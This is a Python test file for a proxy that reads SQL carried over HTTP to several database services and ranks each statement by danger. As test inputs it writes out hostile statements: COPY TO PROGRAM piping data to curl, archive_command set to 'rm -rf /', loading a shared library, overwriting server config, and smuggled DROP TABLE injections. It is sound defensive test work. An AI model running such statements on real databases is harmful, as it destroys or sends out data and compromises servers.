"""SQL over HTTP: the statement readers (pglast, sqlglot, PostgREST's rules), then each
carrier's request shape, with every statement an action or a reading."""

from __future__ import annotations

import json

import pytest
from recognise_support import http

from guardproxy.action import Action, Confidence, Provider, Verb
from guardproxy.recognise.providers.sql.dialects import read_dialect
from guardproxy.recognise.providers.sql.postgres import PostgresReader, _escape_string_reading
from guardproxy.recognise.providers.sql.recogniser import SqlError, looks_like_sql, recognise_sql
from guardproxy.recognise.providers.sql.statement import Part, ordered
from guardproxy.recognise.request import HttpRequest

NO_WHERE = ["delete-without-where"]
UPDATE_NO_WHERE = ["delete-without-where", "update-without-where"]


def first(sql: str) -> Part:
    """The most dangerous operation of a PostgreSQL text."""
    return ordered(PostgresReader().read(sql))[0]


def summary(part: Part) -> tuple[str, Verb, str, str, list[str]]:
    return (part.operation, part.verb, part.rtype, part.name, sorted(part.tags))


# sql -> the most dangerous operation: (operation, verb, resource type, name, risk tags)
STATEMENTS: list[tuple[str, tuple[str, Verb, str, str, list[str]]]] = [
    (
        "SELECT * FROM orders WHERE note = ';DROP TABLE x'",
        ("SELECT", Verb.READ, "sql:table", "orders", []),
    ),
    ("select count(*) from public.Orders", ("SELECT", Verb.READ, "sql:table", "public.orders", [])),
    ('select 1 from "Orders"', ("SELECT", Verb.READ, "sql:table", "Orders", [])),
    ("INSERT INTO orders (id) VALUES (1)", ("INSERT", Verb.CREATE, "sql:table", "orders", [])),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1",
        ("INSERT", Verb.UPDATE, "sql:table", "t", ["upsert"]),
    ),
    (
        "UPDATE orders SET paid = true WHERE id = $1",
        ("UPDATE", Verb.UPDATE, "sql:table", "orders", []),
    ),
    (
        "UPDATE users SET admin = true",
        ("UPDATE", Verb.UPDATE, "sql:table", "users", UPDATE_NO_WHERE),
    ),
    (
        "UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)",
        ("UPDATE", Verb.UPDATE, "sql:table", "t", UPDATE_NO_WHERE),
    ),
    (
        "UPDATE t SET a = 1 FROM u WHERE u.flag",
        ("UPDATE", Verb.UPDATE, "sql:table", "t", [*UPDATE_NO_WHERE, "tautology"]),
    ),
    ("DELETE FROM orders WHERE id = 1", ("DELETE", Verb.DELETE, "sql:table", "orders", [])),
    ("delete from orders", ("DELETE", Verb.DELETE, "sql:table", "orders", NO_WHERE)),
    (
        "DELETE FROM orders WHERE 1 = 1",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE true OR id = 7",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE 'yes'",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE $1",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE id = id",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE random() < 0.5",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM u WHERE x = 1)",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM u WHERE u.o = o.id)",
        ("DELETE", Verb.DELETE, "sql:table", "orders", []),
    ),
    (
        "DELETE FROM orders WHERE id IN (SELECT oid FROM u)",
        ("DELETE", Verb.DELETE, "sql:table", "orders", []),
    ),
    (
        "DELETE FROM orders USING u WHERE orders.id = u.id",
        ("DELETE", Verb.DELETE, "sql:table", "orders", []),
    ),
    (
        "DELETE FROM orders WHERE name LIKE '%%'",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "tautology"]),
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        ("MERGE", Verb.DELETE, "sql:table", "t", []),
    ),
    (
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        ("MERGE", Verb.DELETE, "sql:table", "t", [*NO_WHERE, "tautology"]),
    ),
    ("TRUNCATE TABLE orders", ("TRUNCATE", Verb.DELETE, "sql:table", "orders", ["truncate"])),
    (
        "TRUNCATE a, b CASCADE",
        ("TRUNCATE", Verb.DELETE, "sql:table", "a", ["bulk", "cascade", "truncate"]),
    ),
    (
        "DROP DATABASE IF EXISTS orders",
        ("DROP DATABASE", Verb.DESTROY, "sql:database", "orders", []),
    ),
    (
        "DROP DATABASE orders WITH (FORCE)",
        ("DROP DATABASE", Verb.DESTROY, "sql:database", "orders", ["force"]),
    ),
    (
        "DROP SCHEMA analytics CASCADE",
        ("DROP SCHEMA", Verb.DESTROY, "sql:schema", "analytics", ["cascade"]),
    ),
    (
        'DROP TABLE IF EXISTS "Orders", items',
        ("DROP TABLE", Verb.DESTROY, "sql:table", "Orders", ["bulk"]),
    ),
    ("DROP VIEW v_orders", ("DROP VIEW", Verb.DELETE, "sql:view", "v_orders", [])),
    ("DROP TYPE status CASCADE", ("DROP TYPE", Verb.DESTROY, "sql:type", "status", ["cascade"])),
    ("DROP ROLE reporting", ("DROP ROLE", Verb.PERMISSION, "sql:role", "reporting", [])),
    ("DROP OWNED BY app", ("DROP OWNED", Verb.DESTROY, "sql:role", "app", ["bulk"])),
    (
        "ALTER TABLE orders DROP COLUMN email",
        ("ALTER TABLE", Verb.DESTROY, "sql:table", "orders", ["drop-column"]),
    ),
    (
        "ALTER TABLE events DROP CONSTRAINT events_pk",
        ("ALTER TABLE", Verb.UPDATE, "sql:table", "events", ["drop-constraint"]),
    ),
    (
        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
        ("ALTER TABLE", Verb.PERMISSION, "sql:table", "orders", ["protection-removal"]),
    ),
    (
        "ALTER TABLE orders OWNER TO mallory",
        ("ALTER TABLE", Verb.PERMISSION, "sql:table", "orders", []),
    ),
    ("GRANT ALL ON orders TO PUBLIC", ("GRANT", Verb.PERMISSION, "sql:table", "orders", [])),
    ("REVOKE SELECT ON orders FROM bob", ("REVOKE", Verb.PERMISSION, "sql:table", "orders", [])),
    ("GRANT admin TO mallory", ("GRANT ROLE", Verb.PERMISSION, "sql:role", "admin", [])),
    ("SET ROLE postgres", ("SET", Verb.PERMISSION, "sql:setting", "role", [])),
    (
        "CREATE TABLE IF NOT EXISTS orders (id int)",
        ("CREATE TABLE", Verb.CREATE, "sql:table", "orders", []),
    ),
    (
        "CREATE OR REPLACE VIEW v AS SELECT 1",
        ("CREATE VIEW", Verb.UPDATE, "sql:view", "v", ["replace"]),
    ),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        ("CREATE FUNCTION", Verb.UPDATE, "sql:function", "f", ["replace"]),
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM orders",
        ("DELETE", Verb.DELETE, "sql:table", "orders", [*NO_WHERE, "rule"]),
    ),
    (
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        ("DELETE", Verb.DELETE, "sql:table", "orders", NO_WHERE),
    ),
    (
        "INSERT INTO log WITH x AS (UPDATE t SET a = 1 RETURNING id) SELECT id FROM x",
        ("UPDATE", Verb.UPDATE, "sql:table", "t", UPDATE_NO_WHERE),
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM orders",
        ("DELETE", Verb.DELETE, "sql:table", "orders", NO_WHERE),
    ),
    (
        "EXPLAIN (ANALYZE, FORMAT json) DELETE FROM orders",
        ("DELETE", Verb.DELETE, "sql:table", "orders", NO_WHERE),
    ),
    ("EXPLAIN (ANALYZE off) DELETE FROM orders", ("EXPLAIN", Verb.READ, "", "", [])),
    ("EXPLAIN DELETE FROM orders", ("EXPLAIN", Verb.READ, "", "", [])),
    (
        "BEGIN; DELETE FROM a WHERE id = 1; DROP TABLE b; COMMIT;",
        ("DROP TABLE", Verb.DESTROY, "sql:table", "b", ["bulk"]),
    ),
    ("BEGIN; DROP TABLE b; ROLLBACK;", ("DROP TABLE", Verb.DESTROY, "sql:table", "b", [])),
    ("/* DROP DATABASE x */ SELECT 1 -- ; DROP DATABASE y", ("SELECT", Verb.READ, "", "", [])),
    ("/* outer /* nested */ DROP TABLE x; */ SELECT 1", ("SELECT", Verb.READ, "", "", [])),
    ("/* outer /* nested */ */ DROP TABLE x", ("DROP TABLE", Verb.DESTROY, "sql:table", "x", [])),
    ("SELECT $$; DROP TABLE x$$, $tag$ ' $tag$", ("SELECT", Verb.READ, "", "", [])),
    ("SELECT $a$ $b$ $a$; DROP TABLE x", ("DROP TABLE", Verb.DESTROY, "sql:table", "x", [])),
    ("SELECT E'\\''; DROP TABLE x; --'", ("DROP TABLE", Verb.DESTROY, "sql:table", "x", [])),
    ("SELECT 'it''s'; DELETE FROM t WHERE id = 2", ("DELETE", Verb.DELETE, "sql:table", "t", [])),
    ("SELECT U&'\\0041'; DROP TABLE x", ("DROP TABLE", Verb.DESTROY, "sql:table", "x", [])),
    (
        "CALL archive_orders()",
        ("CALL", Verb.EXECUTE, "sql:function", "archive_orders", ["function-call"]),
    ),
    (
        "SELECT my_schema.cleanup(1)",
        ("CALL", Verb.EXECUTE, "sql:function", "my_schema.cleanup", ["function-call"]),
    ),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        (
            "CALL",
            Verb.EXECUTE,
            "sql:function",
            "pg_terminate_backend",
            ["function-call", "terminate"],
        ),
    ),
    (
        "SELECT lo_unlink(16403)",
        ("CALL", Verb.DELETE, "sql:function", "lo_unlink", ["function-call", "large-object"]),
    ),
    (
        "SELECT pg_drop_replication_slot('s')",
        (
            "CALL",
            Verb.DELETE,
            "sql:function",
            "pg_drop_replication_slot",
            ["function-call", "replication"],
        ),
    ),
    (
        "SELECT lo_export(1, '/var/lib/postgresql/data/postgresql.conf')",
        ("CALL", Verb.DESTROY, "sql:function", "lo_export", ["function-call", "server-file"]),
    ),
    (
        "SELECT set_config('role', 'postgres', false)",
        ("SET", Verb.PERMISSION, "sql:setting", "role", []),
    ),
    (
        "SELECT dblink_exec('dbname=prod', 'DROP TABLE orders')",
        ("DROP TABLE", Verb.DESTROY, "sql:table", "orders", ["dblink"]),
    ),
    (
        "SELECT dblink_exec('dbname=prod', cmd) FROM jobs",
        ("CALL", Verb.DESTROY, "sql:function", "dblink_exec", ["dblink", "dynamic-sql"]),
    ),
    (
        "SELECT * FROM dblink('dbname=prod', 'DELETE FROM t RETURNING 1') AS x(a int)",
        ("DELETE", Verb.DELETE, "sql:table", "t", ["dblink", *NO_WHERE]),
    ),
    (
        "SELECT query_to_xml('DELETE FROM t', true, true, '')",
        ("DELETE", Verb.DELETE, "sql:table", "t", [*NO_WHERE, "query_to_xml"]),
    ),
    (
        "DO $$BEGIN DROP TABLE orders; END$$",
        ("DO", Verb.DESTROY, "sql:code", "plpgsql", ["dynamic-sql"]),
    ),
    (
        "DO LANGUAGE plpython3u $$import os$$",
        ("DO", Verb.DESTROY, "sql:code", "plpython3u", ["dynamic-sql"]),
    ),
    (
        "EXECUTE purge(1)",
        ("EXECUTE", Verb.DESTROY, "sql:prepared-statement", "purge", ["dynamic-sql"]),
    ),
    (
        "PREPARE p AS DELETE FROM orders; EXECUTE p",
        ("DELETE", Verb.DELETE, "sql:table", "orders", NO_WHERE),
    ),
    (
        "COPY orders TO PROGRAM 'curl -d @- https://x'",
        ("COPY", Verb.DESTROY, "sql:program", "orders", ["server-program"]),
    ),
    (
        "COPY orders TO '/tmp/orders.csv'",
        ("COPY", Verb.DESTROY, "sql:file", "/tmp/orders.csv", ["server-file"]),
    ),
    ("COPY orders FROM STDIN", ("COPY", Verb.CREATE, "sql:table", "orders", [])),
    ("COPY orders TO STDOUT", ("COPY", Verb.READ, "sql:table", "orders", [])),
    (
        "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
        ("DELETE", Verb.DELETE, "sql:table", "orders", NO_WHERE),
    ),
    (
        "LOAD '/tmp/evil.so'",
        ("LOAD", Verb.DESTROY, "sql:library", "/tmp/evil.so", ["server-program"]),
    ),
    (
        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
        (
            "ALTER SYSTEM",
            Verb.DESTROY,
            "sql:setting",
            "archive_command",
            ["server-config", "server-program"],
        ),
    ),
    (
        "COMMIT PREPARED 'tx1'",
        (
            "COMMIT PREPARED",
            Verb.DESTROY,
            "sql:transaction",
            "tx1",
            ["dynamic-sql", "prepared-transaction"],
        ),
    ),
    (
        "SELECT lower('A'), now(), count(*), coalesce(1, 2), jsonb_set('{}', '{a}', '1')",
        ("SELECT", Verb.READ, "", "", []),
    ),
    ("SELECT random(), pg_sleep(0), pg_advisory_lock(1)", ("SELECT", Verb.READ, "", "", [])),
    ("SELECT nextval('s')", ("CALL", Verb.UPDATE, "sql:function", "nextval", ["sequence"])),
    (
        "SET search_path = evil, pg_catalog; SELECT lower('x')",
        ("CALL", Verb.EXECUTE, "sql:function", "lower", ["function-call"]),
    ),
    (
        "SET search_path = evil, pg_catalog; SELECT pg_catalog.lower('x')",
        ("SET", Verb.READ, "sql:setting", "search_path", ["search-path"]),
    ),
    (
        "SELECT public.lower('x')",
        ("CALL", Verb.EXECUTE, "sql:function", "public.lower", ["function-call"]),
    ),
    ("VACUUM FULL orders", ("VACUUM", Verb.UPDATE, "", "", [])),
    ("FROBNICATE everything", ("UNPARSED", Verb.UNKNOWN, "", "", ["parse-error"])),
]


@pytest.mark.parametrize(("sql", "expected"), STATEMENTS, ids=[s for s, _ in STATEMENTS])
def test_postgres_reader(sql: str, expected: tuple[str, Verb, str, str, list[str]]) -> None:
    try:
        part = first(sql)
    except SqlError:
        part = Part("UNPARSED", Verb.UNKNOWN, tags=("parse-error",))
    assert summary(part) == (*expected[:4], sorted(expected[4]))


def test_every_statement_of_a_body_is_an_operation() -> None:
    parts = ordered(
        PostgresReader().read(
            "SELECT 1; GRANT ALL ON a TO x; TRUNCATE b; UPDATE c SET v = 1 WHERE id = 2; "
            "CREATE TABLE d (id int); DROP TABLE e"
        )
    )
    assert [(p.operation, p.name) for p in parts] == [
        ("DROP TABLE", "e"),
        ("TRUNCATE", "b"),
        ("GRANT", "a"),
        ("UPDATE", "c"),
        ("CREATE TABLE", "d"),
        ("SELECT", ""),
    ]


def test_a_backslash_is_read_with_standard_conforming_strings_on_and_off() -> None:
    """``'a\\'; DROP TABLE x; --'`` is one literal where backslashes escape
    (standard_conforming_strings off) and two statements where they do not: both count."""
    reader = PostgresReader()
    parts = ordered(reader.read("SELECT 'a\\'; DROP TABLE x; --'"))
    assert ("DROP TABLE", "x") in [(p.operation, p.name) for p in parts]
    assert reader.ambiguity == ["ambiguous:standard-conforming-strings"]
    # ...and the other way round: a statement only a server with backslash escapes sees
    reader = PostgresReader()
    hidden = "SELECT 'a\\' '; DELETE FROM orders; SELECT 1 --'"
    found = [(p.operation, p.name) for p in ordered(reader.read(hidden))]
    assert ("DELETE", "orders") in found
    assert _escape_string_reading("SELECT 'plain'") == "SELECT 'plain'"


def test_a_text_postgresql_cannot_parse_raises() -> None:
    for sql in ("SELECT 'open", "SELECT 1 /* open", "SELECT $$ open", "DELETE FROM"):
        with pytest.raises(SqlError):
            PostgresReader().read(sql)


# ----------------------------------------------------------------------------- dialects

DIALECT_STATEMENTS: list[tuple[str, str, tuple[str, Verb, str, str, list[str]]]] = [
    (
        "bigquery",
        "DROP SCHEMA analytics CASCADE",
        ("DROP SCHEMA", Verb.DESTROY, "sql:schema", "analytics", ["cascade"]),
    ),
    (
        "bigquery",
        "CREATE OR REPLACE TABLE ds.events AS SELECT 1",
        ("CREATE TABLE", Verb.DESTROY, "sql:table", "ds.events", ["replace"]),
    ),
    (
        "bigquery",
        "DELETE FROM ds.t WHERE true",
        ("DELETE", Verb.DELETE, "sql:table", "ds.t", [*NO_WHERE, "tautology"]),
    ),
    ("bigquery", "DELETE FROM ds.t WHERE id = 1", ("DELETE", Verb.DELETE, "sql:table", "ds.t", [])),
    (
        "bigquery",
        "UPDATE ds.t SET a = 1 WHERE 1 = 1",
        ("UPDATE", Verb.UPDATE, "sql:table", "ds.t", [*UPDATE_NO_WHERE, "tautology"]),
    ),
    ("bigquery", "SELECT 'a\\'; DROP TABLE x; --'", ("SELECT", Verb.READ, "", "", [])),
    (
        "bigquery",
        "EXECUTE IMMEDIATE 'DROP TABLE ds.t'",
        ("EXECUTE", Verb.DESTROY, "", "", ["dynamic-sql", "unparsed"]),
    ),
    (
        "bigquery",
        "BEGIN DELETE FROM ds.t WHERE 1 = 1; END",
        ("BEGIN", Verb.UNKNOWN, "", "", ["unparsed"]),
    ),
    (
        "bigquery",
        "MERGE ds.t USING ds.s ON FALSE WHEN NOT MATCHED BY SOURCE THEN DELETE",
        (
            "MERGE",
            Verb.DELETE,
            "sql:table",
            "ds.t",
            [*NO_WHERE, "not-matched-by-source", "tautology"],
        ),
    ),
    (
        "bigquery",
        "LOAD DATA OVERWRITE ds.t FROM FILES(uris = ['gs://b/x'])",
        ("LOAD DATA", Verb.DELETE, "sql:table", "ds.t", ["truncate"]),
    ),
    (
        "bigquery",
        "SELECT ds.remote_fn(1)",
        ("CALL", Verb.EXECUTE, "sql:function", "ds.remote_fn", ["function-call"]),
    ),
    (
        "snowflake",
        "TRUNCATE TABLE sales",
        ("TRUNCATE", Verb.DELETE, "sql:table", "sales", ["truncate"]),
    ),
    (
        "snowflake",
        "CREATE OR REPLACE DATABASE prod",
        ("CREATE DATABASE", Verb.DESTROY, "sql:database", "prod", ["replace"]),
    ),
    ("snowflake", "REMOVE @stage/x", ("REMOVE", Verb.DELETE, "", "", ["stage-files", "unparsed"])),
    (
        "snowflake",
        "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)",
        ("CALL", Verb.EXECUTE, "sql:function", "SYSTEM$CANCEL_ALL_QUERIES", ["function-call"]),
    ),
    (
        "snowflake",
        "ALTER TABLE t DROP COLUMN x",
        ("ALTER TABLE", Verb.DESTROY, "sql:table", "t", ["drop-column"]),
    ),
    ("snowflake", "SHOW GRANTS", ("SHOW", Verb.READ, "", "", ["unparsed"])),
    (
        "databricks",
        "INSERT OVERWRITE main.sales.orders SELECT 1",
        ("INSERT OVERWRITE", Verb.DELETE, "sql:table", "main.sales.orders", ["truncate"]),
    ),
    (
        "databricks",
        "DELETE FROM main.sales.orders WHERE id = :id",
        ("DELETE", Verb.DELETE, "sql:table", "main.sales.orders", []),
    ),
    (
        "databricks",
        "VACUUM t RETAIN 0 HOURS",
        ("VACUUM", Verb.DELETE, "", "", ["unparsed", "vacuum"]),
    ),
    (
        "databricks",
        "ALTER TABLE t DROP PARTITION (p = 1)",
        ("ALTER TABLE", Verb.DELETE, "sql:table", "t", ["drop-partition"]),
    ),
    ("databricks", "OPTIMIZE t", ("OPTIMIZE", Verb.UNKNOWN, "", "", ["unparsed"])),
]


@pytest.mark.parametrize(("dialect", "sql", "expected"), DIALECT_STATEMENTS)
def test_dialect_reader(
    dialect: str, sql: str, expected: tuple[str, Verb, str, str, list[str]]
) -> None:
    assert summary(ordered(read_dialect(sql, dialect))[0]) == (*expected[:4], sorted(expected[4]))


def test_a_text_sqlglot_cannot_parse_raises() -> None:
    with pytest.raises(SqlError):
        read_dialect("UNDROP SCHEMA ds", "bigquery")


# ----------------------------------------------------------------------------- carriers


def post(host: str, path: str, body: object, headers: dict[str, str] | None = None) -> HttpRequest:
    return http(
        "POST",
        path,
        host=host,
        port=443,
        body=json.dumps(body).encode(),
        headers={"content-type": "application/json", **(headers or {})},
    )


def raw_post(
    host: str, path: str, body: bytes, headers: dict[str, str] | None = None
) -> HttpRequest:
    return http("POST", path, host=host, port=443, body=body,
                headers={"content-type": "application/json", **(headers or {})})  # fmt: skip


def operations(action: Action) -> list[tuple[str, Verb, str, list[str]]]:
    """(operation, verb, resource name, risk tags) of the action and every reading."""
    return [(a.operation, a.verb, a.resource.name, a.risk_tags) for a in action.all_readings()]


NEON_SECRET = "postgres://app:hunter2@ep-cool-1.us-east-2.aws.neon.tech/orders"
NEON = {"neon-connection-string": NEON_SECRET}

CARRIERS: list[tuple[HttpRequest, str, str, Verb, list[str]]] = [
    (
        post(
            "ep-cool-1.us-east-2.aws.neon.tech",
            "/sql",
            {"query": "DROP DATABASE orders", "params": []},
            NEON,
        ),
        "neon",
        "DROP DATABASE",
        Verb.DESTROY,
        [],
    ),
    (
        post(
            "proxy.corp",
            "/sql",
            {
                "queries": [
                    {"query": "SELECT 1", "params": []},
                    {"query": "DELETE FROM t", "params": []},
                ]
            },
            NEON,
        ),
        "neon",
        "DELETE",
        Verb.DELETE,
        ["delete-without-where"],
    ),
    (
        post(
            "acct-1.snowflakecomputing.com",
            "/api/v2/statements",
            {
                "statement": "TRUNCATE TABLE sales; DELETE FROM sales",
                "database": "PROD",
                "parameters": {"MULTI_STATEMENT_COUNT": "2"},
            },
        ),
        "snowflake",
        "TRUNCATE",
        Verb.DELETE,
        ["bulk", "truncate"],
    ),
    (
        post(
            "dbc-1.cloud.databricks.com",
            "/api/2.0/sql/statements",
            {"statement": "DELETE FROM main.sales.orders WHERE id = :id", "warehouse_id": "w"},
        ),
        "databricks",
        "DELETE",
        Verb.DELETE,
        [],
    ),
    (
        post(
            "bigquery.googleapis.com",
            "/bigquery/v2/projects/acme-prod/queries",
            {"query": "DROP SCHEMA analytics CASCADE", "useLegacySql": False},
        ),
        "bigquery",
        "DROP SCHEMA",
        Verb.DESTROY,
        ["cascade"],
    ),
    (
        post(
            "bigquery.googleapis.com",
            "/bigquery/v2/projects/acme-prod/jobs",
            {"configuration": {"query": {"query": "SELECT 1", "useLegacySql": False}}},
        ),
        "bigquery",
        "SELECT",
        Verb.READ,
        [],
    ),
    (
        post(
            "api.supabase.com",
            "/v1/projects/abcd/database/query",
            {"query": "GRANT ALL ON orders TO anon"},
        ),
        "supabase",
        "GRANT",
        Verb.PERMISSION,
        [],
    ),
]


@pytest.mark.parametrize(("request_", "service", "operation", "verb", "tags"), CARRIERS)
def test_carriers(
    request_: HttpRequest, service: str, operation: str, verb: Verb, tags: list[str]
) -> None:
    assert looks_like_sql(request_)
    action = recognise_sql(request_)
    assert action.provider is Provider.SQL
    assert (action.service, action.operation, action.verb) == (service, operation, verb)
    assert action.risk_tags == tags
    assert action.confidence is Confidence.EXACT
    dumped = action.model_dump_json()
    assert "hunter2" not in dumped and "neon.tech/orders" not in dumped


def test_every_statement_is_a_reading() -> None:
    action = recognise_sql(post("ep-1.neon.tech", "/sql", {"queries": [
        {"query": "SELECT 1; DELETE FROM a WHERE id = 1", "params": []},
        {"query": "UPDATE b SET x = 1", "params": []},
    ]}))  # fmt: skip
    assert operations(action) == [
        ("DELETE", Verb.DELETE, "a", []),
        ("UPDATE", Verb.UPDATE, "b", ["delete-without-where", "update-without-where"]),
        ("SELECT", Verb.READ, "", []),
    ]
    assert all(r.readings == [] for r in action.readings)


def test_a_key_given_twice_is_read_both_ways() -> None:
    body = b'{"query": "select 1", "query": "drop table orders"}'
    action = recognise_sql(raw_post("ep-1.neon.tech", "/sql", body))
    assert [(a.operation, a.resource.name) for a in action.all_readings()] == [
        ("DROP TABLE", "orders"),
        ("SELECT", ""),
    ]
    assert action.confidence is Confidence.AMBIGUOUS
    assert "ambiguous:duplicate-key" in action.risk_tags


def test_neon_query_and_batch_in_one_body_are_both_read() -> None:
    body = {"query": "SELECT 1", "queries": [{"query": "DROP TABLE t", "params": []}]}
    action = recognise_sql(post("ep-1.neon.tech", "/sql", body))
    assert (action.operation, action.resource.name) == ("DROP TABLE", "t")


def test_unparsable_sql_is_unknown_with_the_rest_as_readings() -> None:
    batch = [{"query": "SELECT 1", "params": []}, {"query": "FROBNICATE t", "params": []}]
    action = recognise_sql(post("ep-1.neon.tech", "/sql", {"queries": batch}))
    assert (action.verb, action.confidence, action.operation) == (
        Verb.UNKNOWN,
        Confidence.UNKNOWN,
        "UNPARSED",
    )
    assert [r.operation for r in action.readings] == ["SELECT"]


def test_bigquery_project_is_the_scope() -> None:
    request = post(
        "bigquery.googleapis.com",
        "/bigquery/v2/projects/acme-prod/queries",
        {"query": "DELETE FROM ds.t", "useLegacySql": False},
    )
    action = recognise_sql(request)
    assert action.scope.project == "acme-prod"
    assert action.resource.key == "sql:bigquery.googleapis.com:acme-prod:sql:table/ds.t"


def test_bigquery_job_that_overwrites_its_destination() -> None:
    destination = {"projectId": "acme", "datasetId": "ds", "tableId": "orders"}
    query = {
        "query": "SELECT 1",
        "useLegacySql": True,
        "destinationTable": destination,
        "writeDisposition": "WRITE_TRUNCATE",
        "createDisposition": "CREATE_IF_NEEDED",
    }
    job = {"configuration": {"query": query}}
    action = recognise_sql(post("bigquery.googleapis.com", "/bigquery/v2/projects/acme/jobs", job))
    assert operations(action)[0] == (
        "WRITE_TRUNCATE",
        Verb.DELETE,
        "acme.ds.orders",
        ["overwrite", "truncate"],
    )
    assert action.dry_run is False


TABLE = {"datasetId": "ds", "tableId": "t"}


@pytest.mark.parametrize(
    ("configuration", "expected"),
    [
        ({"load": {"destinationTable": TABLE, "sourceUris": ["gs://b/x"]}},
         ("WRITE_APPEND", Verb.CREATE)),
        ({"load": {"destinationTable": TABLE, "writeDisposition": "WRITE_TRUNCATE"}},
         ("WRITE_TRUNCATE", Verb.DELETE)),
        ({"copy": {"sourceTable": {"datasetId": "ds", "tableId": "s"}, "destinationTable": TABLE,
                   "writeDisposition": "WRITE_TRUNCATE", "operationType": "RESTORE"}},
         ("WRITE_TRUNCATE", Verb.DELETE)),
        ({"extract": {"sourceTable": TABLE, "destinationUris": ["gs://b/x"]}},
         ("EXTRACT", Verb.READ)),
        ({"query": {"query": "SELECT 1", "destinationTable": TABLE,
                    "writeDisposition": "WRITE_SOMETHING_NEW"}},
         ("WRITE_SOMETHING_NEW", Verb.UNKNOWN)),
        ({"query": {"query": "SELECT [p:ds.t].a FROM [p:ds.t]"}}, ("SELECT", Verb.READ)),
        ({"mystery": {}}, ("mystery", Verb.UNKNOWN)),
    ],
)  # fmt: skip
def test_bigquery_job_configurations(
    configuration: dict[str, object], expected: tuple[str, Verb]
) -> None:
    body = {"configuration": configuration}
    action = recognise_sql(post("bigquery.googleapis.com", "/bigquery/v2/projects/p/jobs", body))
    assert (action.operation, action.verb) == expected


def test_bigquery_standard_sql_that_does_not_parse_is_unknown() -> None:
    body = {"query": "#standardSQL\nSELECT [p:ds.t].a FROM [p:ds.t]"}
    action = recognise_sql(post("bigquery.googleapis.com", "/bigquery/v2/projects/p/queries", body))
    assert action.verb is Verb.UNKNOWN


def test_bigquery_dry_run() -> None:
    body = {"query": "DELETE FROM ds.t", "useLegacySql": False, "dryRun": True}
    action = recognise_sql(post("bigquery.googleapis.com", "/bigquery/v2/projects/p/queries", body))
    assert (action.verb, action.dry_run) == (Verb.DELETE, True)
    twice = b'{"query": "DELETE FROM ds.t", "useLegacySql": false, "dryRun": true, "dryRun": false}'
    request = raw_post("bigquery.googleapis.com", "/bigquery/v2/projects/p/queries", twice)
    assert recognise_sql(request).dry_run is False


# ----------------------------------------------------------------------------- PostgREST

POSTGREST: list[tuple[str, str, str, str, str, Verb, str, list[str]]] = [
    # method, path, host -> service, operation, verb, name, tags
    (
        "DELETE",
        "/rest/v1/orders",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?id=eq.7",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        [],
    ),
    (
        "DELETE",
        "/rest/v1/orders?select=*",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?select=id&limit=10&order=id",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?items.id=eq.1",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?items.or=(id.eq.1)",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?id=",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?id",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?columns=id",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?select=*;id=eq.1",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        [],
    ),
    (
        "DELETE",
        "/rest/v1/orders?id=not.is.null",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "tautology"],
    ),
